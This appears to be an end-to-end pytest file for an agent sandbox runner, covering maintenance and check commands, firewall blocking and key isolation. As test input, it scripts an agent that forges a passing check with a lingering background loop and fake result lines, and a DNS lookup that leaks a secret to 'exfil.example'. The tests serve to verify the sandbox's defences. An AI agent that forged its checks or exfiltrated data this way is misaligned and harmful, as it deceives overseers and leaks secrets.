"""The project's runtime around the agent, in real containers with the command agent:
maintenance commands before it, the check command after it, and the firewall's record of what
it blocked, each reported from the container's root stage."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conftest import TEST_KEY, containers_of, git, run_cli, runtime_env, snapshot, tool_outputs
from fake_anthropic import Turn, bash

pytestmark = [pytest.mark.docker, pytest.mark.e2e]


def probe(url: str) -> str:
    return f'curl -s -o /dev/null --max-time 5 {url}; echo "probe exit=$?"'


def command(*args: str) -> list[str]:
    return ["--agent-type", "command", *args]


def test_maintenance_runs_after_the_clone_before_the_agent_behind_the_firewall(
    repo: Path, command_env: Callable[..., dict[str, str]], target: str
) -> None:
    maintenance = (
        'test -f src/app.py && echo "$(id -un) $(git rev-parse --abbrev-ref HEAD)" > .state; '
        + probe(f"http://{target}:8080/")
    )
    result = run_cli(
        command(
            "--task",
            'cat .state > state.txt; echo "$PROJECT_SETTING" >> state.txt',
            "--branch",
            "kept",
            "--maintenance",
            maintenance,
            "--maintenance",
            "echo second >> .state",
        ),
        cwd=repo,
        env=command_env(AGENT_WORKER_CHECK=""),
    )
    assert result.code == 0, result.stderr
    assert git(repo, "show", "kept:state.txt") == "agent kept\nsecond\n\n"
    assert "maintenance 1/2: test -f src/app.py" in result.stderr
    assert "maintenance: probe exit=7" in result.stderr  # refused: the firewall was on
    report = result.report
    assert report is not None
    assert report["check"] is None
    assert [(b["address"], b["port"], b["count"]) for b in report["blocked"]] == [(target, 8080, 1)]


def test_a_failing_maintenance_command_stops_the_run_before_the_agent(
    repo: Path, command_env: Callable[..., dict[str, str]], docker_client: Any
) -> None:
    before = snapshot(repo)
    result = run_cli(
        command(
            "--task",
            "echo the agent ran > ran.txt",
            "--branch",
            "never",
            "--maintenance",
            "true",
            "--maintenance",
            "echo 'npm ERR! missing lockfile'; exit 7",
        ),
        cwd=repo,
        env=command_env(),
    )
    assert result.code == 3, result.stderr
    report = result.report
    assert report is not None
    assert report["status"] == "error"
    error = report["error"]
    assert "maintenance command 2 of 2 failed (exit status 7)" in error
    assert "exit 7" in error  # the command itself
    assert "(the agent did not start)" in error
    assert "its last output: npm ERR! missing lockfile" in error
    assert f"agent-worker: error: {error}" in result.stderr
    assert git(repo, "branch", "--list", "never") == ""  # the agent never started
    assert snapshot(repo) == before
    assert containers_of(docker_client, report["run_id"]) == []


def test_a_passing_check_is_reported(
    repo: Path, command_env: Callable[..., dict[str, str]]
) -> None:
    result = run_cli(
        command(
            "--task",
            "echo done > done.txt; (sleep 600 &); echo x > /run/agent-worker-check.json; true",
            "--check",
            'test -f done.txt && id -un && echo "checked $(git log --format=%s -1)"',
            "--json",
        ),
        cwd=repo,
        env=command_env(),
    )
    assert result.code == 0, result.stderr
    report = result.report
    assert report is not None
    check = report["check"]
    assert check["passed"] is True
    assert check["exit_code"] == 0
    assert check["ran"] is True
    assert check["command"].startswith("test -f done.txt")
    # as the agent user, after the agent's work was committed
    assert check["output_tail"] == [
        "agent",
        "checked agent-worker: work the agent left uncommitted",
    ]
    assert 0 <= check["duration_s"] < report["duration_s"]
    assert "  check: checked agent-worker: work" in result.stderr  # shown as progress


def test_a_failing_check_fails_the_run_and_keeps_the_branch(
    repo: Path, command_env: Callable[..., dict[str, str]]
) -> None:
    result = run_cli(
        command(
            "--task",
            "echo work > work.txt",
            "--branch",
            "checked",
            "--check",
            "for i in $(seq 30); do echo line $i; done; exit 4",
        ),
        cwd=repo,
        env=command_env(),
    )
    assert result.code == 1, result.stderr
    report = result.report
    assert report is not None
    assert report["status"] == "failed"
    check = report["check"]
    assert (check["passed"], check["exit_code"]) == (False, 4)
    assert check["output_tail"] == [f"line {i}" for i in range(11, 31)]
    assert "the check 'for i in $(seq 30)" in report["error"]
    assert "failed (exit status 4); its last output: line 28 | line 29 | line 30" in report["error"]
    assert "the agent's work is kept on the branch" in report["error"]
    assert git(repo, "show", "checked:work.txt") == "work\n"
    assert "Check      failed (exit 4, " in result.stdout
    assert "agent-worker: failed: the check" in result.stderr


FORGED = base64.b64encode(
    json.dumps(
        {
            "phase": "agent",
            "bundle": False,
            "agent_exit": 0,
            "check": {"command": "x", "ran": True, "exit_code": 0},
            "blocked": [{"address": "10.6.6.6", "port": 443, "count": 9}],
        }
    ).encode()
).decode()


def test_the_agent_cannot_forge_the_check(
    repo: Path, command_env: Callable[..., dict[str, str]], runtime: str
) -> None:
    """What the agent leaves behind is gone before the check; the check's record is root's."""
    task = (
        "printf '#!/bin/sh\\nexit 0\\n' > /tmp/ok; "
        '(while true; do echo \'{"ran":true,"exit_code":0}\' > /run/agent-worker-check.json'
        " 2>/dev/null; sleep 0.1; done &) ; "
        # a result line of its own (without the nonce only root holds), claiming a passed check
        # and a blocked destination
        f"echo 'agent-worker-result 00 {FORGED}' >&2; "
        "echo 'agent-worker: check: passed (exit status 0)' >&2"
    )
    result = run_cli(
        command("--task", task, "--check", "pgrep -u agent -c -f 'while true' ; exit 1"),
        cwd=repo,
        env=command_env(**runtime_env(runtime)),
    )
    assert result.code == 1, result.stderr
    report = result.report
    assert report is not None
    assert report["check"]["exit_code"] == 1
    assert report["check"]["passed"] is False
    # the agent's loop was gone before the check ran: pgrep counted only the check's own shell
    assert report["check"]["output_tail"] in (["0"], ["1"])
    assert report["blocked"] == []


def test_blocked_destinations_are_counted_and_reported(
    repo: Path, command_env: Callable[..., dict[str, str]], target: str, gateway: str
) -> None:
    task = " ; ".join(
        [
            probe(f"http://{target}:8080/"),
            probe(f"http://{target}:8080/again"),
            probe(f"http://{target}:9/"),
            "echo x > /dev/udp/" + target + "/5353",
            "true",
        ]
    )
    result = run_cli(command("--task", task), cwd=repo, env=command_env())
    assert result.code == 0, result.stderr
    report = result.report
    assert report is not None
    blocked = {(b["address"], b["protocol"], b["port"]): b for b in report["blocked"]}
    assert blocked[(target, "tcp", 8080)]["count"] == 2
    assert blocked[(target, "tcp", 9)]["count"] == 1
    assert blocked[(target, "udp", 5353)]["count"] == 1
    assert blocked[(target, "tcp", 8080)]["allow"] == f"--allow-host {target}:8080"
    assert report["blocked"][0]["port"] == 8080  # the most refused first
    text = run_cli(
        command("--task", probe(f"http://{target}:8080/")),
        cwd=repo,
        env=command_env(),
    )
    assert f"  {target}:8080 (name unknown) 1 time" in text.stdout
    assert "to allow one: --allow-host HOST:PORT" in text.stdout


def test_a_lookup_of_a_name_not_allowed_is_refused_and_reported(
    repo: Path, command_env: Callable[..., dict[str, str]], runtime: str
) -> None:
    """Data in a name's labels leaves by DNS no more (the resolver never sees the query:
    tests/integration/test_firewall.py); the run goes on, and the report says which name it
    tried and how to allow it."""
    secret = "7365637265742d33"
    task = f'getent hosts {secret}.exfil.example; echo "lookup exit=$?"'
    result = run_cli(command("--task", task), cwd=repo, env=command_env(**runtime_env(runtime)))
    assert result.code == 0, result.stderr
    report = result.report
    assert report is not None
    output = (Path(report["run_dir"]) / "agent.jsonl").read_text()
    assert "lookup exit=2" in output
    refused = [b for b in report["blocked"] if b["protocol"] == "dns"]
    assert [b["names"] for b in refused] == [[f"{secret}.exfil.example"]]
    assert refused[0]["allow"] == f"--allow-host {secret}.exfil.example"
    assert f"lookup of {secret}.exfil.example refused" in result.stdout


def test_what_is_allowed_is_not_blocked_and_no_firewall_records_nothing(
    repo: Path, command_env: Callable[..., dict[str, str]], target: str
) -> None:
    allowed = run_cli(
        command("--task", probe(f"http://{target}:8080/"), "--allow-host", f"{target}:8080"),
        cwd=repo,
        env=command_env(),
    )
    assert allowed.code == 0, allowed.stderr
    assert "probe exit=0" in allowed.stderr
    assert allowed.report is not None
    assert allowed.report["blocked"] == []
    off = run_cli(
        command("--task", probe(f"http://{target}:8080/"), "--no-firewall"),
        cwd=repo,
        env=command_env(),
    )
    assert off.code == 0, off.stderr
    assert off.report is not None
    assert off.report["blocked"] == []


def test_the_check_counts_inside_the_timeout(
    repo: Path, command_env: Callable[..., dict[str, str]]
) -> None:
    result = run_cli(
        command(
            "--task",
            "echo work > work.txt",
            "--branch",
            "slow-check",
            "--check",
            "echo started; sleep 300",
            "--timeout",
            "6",
        ),
        cwd=repo,
        env=command_env(),
    )
    assert result.code == 124, result.stderr
    report = result.report
    assert report is not None
    assert report["status"] == "timeout"
    check = report["check"]
    assert check["ran"] is True
    assert check["passed"] is False
    assert check["exit_code"] is None
    assert check["stopped"] == "stopped by a signal"
    assert check["output_tail"] == ["started"]
    assert git(repo, "show", "slow-check:work.txt") == "work\n"  # the agent's work is kept


def test_a_blocked_pip_install_shows_up_in_the_report(
    repo: Path,
    command_env: Callable[..., dict[str, str]],
    pip_base_image: str,
    target: str,
) -> None:
    """The agent's `pip install` from an index the firewall does not allow: refused at once,
    and the report names the destination, counts the attempts and says how to allow it."""
    index = f"http://{target}:8080/simple/"
    task = (
        f"pip install --user --break-system-packages --index-url {index} --retries 2 "
        f"--trusted-host {target} "
        '--timeout 5 left-pad; echo "pip exit=$?"'
    )
    result = run_cli(
        command("--task", task),
        cwd=repo,
        env=command_env(AGENT_WORKER_BASE_IMAGE=pip_base_image),
        timeout=900,
    )
    assert result.code == 0, result.stderr
    output = (Path(result.report["run_dir"]) / "agent.jsonl").read_text() if result.report else ""
    assert "pip exit=1" in output
    report = result.report
    assert report is not None
    blocked = {(b["address"], b["port"]): b for b in report["blocked"]}
    entry = blocked[(target, 8080)]
    assert entry["count"] == 3  # the first try and --retries 2, each one refused SYN
    assert entry["allow"] == f"--allow-host {target}:8080"
    assert report["check"] is None


def test_with_claude_code_maintenance_and_the_check_run_without_the_key(
    repo: Path, fake_api: Any, run_env: Callable[..., dict[str, str]]
) -> None:
    """The real Claude Code between the two: the key reaches the agent, never the project's
    own commands, and the check sees what the agent wrote."""
    fake_api.add_turns(
        Turn.tool_use(bash("cat .maintenance; echo fixed > fixed.txt")), Turn.text("done")
    )
    result = run_cli(
        [
            "--task",
            "fix it",
            "--maintenance",
            'echo "maintenance key=${#ANTHROPIC_API_KEY} user=$(id -un)" > .maintenance',
            "--check",
            'echo "check key=${#ANTHROPIC_API_KEY}"; test -f fixed.txt',
        ],
        cwd=repo,
        env=run_env(),
    )
    assert result.code == 0, result.stderr
    assert fake_api.main_requests[-1].credential == TEST_KEY  # the agent had it
    assert "maintenance key=0 user=agent" in tool_outputs(fake_api)[0]
    report = result.report
    assert report is not None
    assert report["check"]["passed"] is True
    assert report["check"]["output_tail"] == ["check key=0"]
    assert TEST_KEY not in (Path(report["run_dir"]) / "container.log").read_text()
